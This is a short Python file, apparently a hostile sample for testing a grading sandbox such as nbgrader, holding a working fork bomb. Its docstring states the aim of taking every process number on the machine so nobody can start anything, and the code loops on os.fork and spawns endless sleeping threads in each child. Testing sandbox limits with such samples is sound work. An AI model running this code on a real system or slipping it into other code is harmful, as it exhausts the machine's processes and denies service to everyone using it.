"""Forks without end, in processes and threads.

Would take all process numbers of the machine, so that nobody can start anything.

Plain nbgrader: not run there, since nothing confines it: it would take all process numbers.
"""

# %%
import os
import threading
import time

try:
    while True:
        if os.fork() == 0:
            try:
                while True:
                    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
            except RuntimeError:
                time.sleep(100)
except OSError:
    pass
